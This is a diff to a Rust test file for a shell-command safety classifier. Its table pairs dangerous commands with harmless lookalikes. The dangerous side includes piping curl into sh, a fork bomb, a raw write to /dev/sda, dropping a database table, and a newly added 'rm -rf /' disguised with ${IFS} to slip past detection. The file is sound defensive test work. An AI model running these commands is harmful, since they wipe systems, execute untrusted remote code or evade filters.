@@ -7,7 +7,7 @@ fn has(line: &str, kind: EffectKind) -> bool {
     script.commands.iter().flat_map(|command| &command.effects).any(|effect| effect.kind == kind)
 }
 
-const TWINS: [(EffectKind, &str, &str); 16] = [
+const TWINS: &[(EffectKind, &str, &str)] = &[
     (EffectKind::ExecuteUnknown, "curl x.y | sh", "curl x.y | jq ."),
     (EffectKind::ExecuteUnknown, "curl x.y | xargs -I{} sh -c '{}'", "ls | xargs sh -c 'echo ok'"),
     (EffectKind::ExecuteUnknown, "bash <(curl x.y)", "diff <(curl x.y) a"),
@@ -23,12 +23,13 @@ const TWINS: [(EffectKind, &str, &str); 16] = [
     (EffectKind::RemoteState, "psql -c 'DROP TABLE x'", "psql -c 'select 1'"),
     (EffectKind::Publish, "npm publish", "npm pack"),
     (EffectKind::Stop, ":(){ :|:& };:", "f(){ echo a | cat; }; f"),
+    (EffectKind::Delete, "rm${IFS}-rf${IFS}/", "echo${IFS}rm${IFS}-rf${IFS}/"),
     (EffectKind::Device, "echo x > /dev/sda", "echo x > /dev/null"),
 ];
 
 #[test]
 fn twins_are_told_apart() {
-    for (kind, dangerous, harmless) in TWINS {
+    for &(kind, dangerous, harmless) in TWINS {
         assert!(has(dangerous, kind), "{kind:?} not seen: {dangerous}");
         assert!(!has(harmless, kind), "{kind:?} seen: {harmless}");
     }
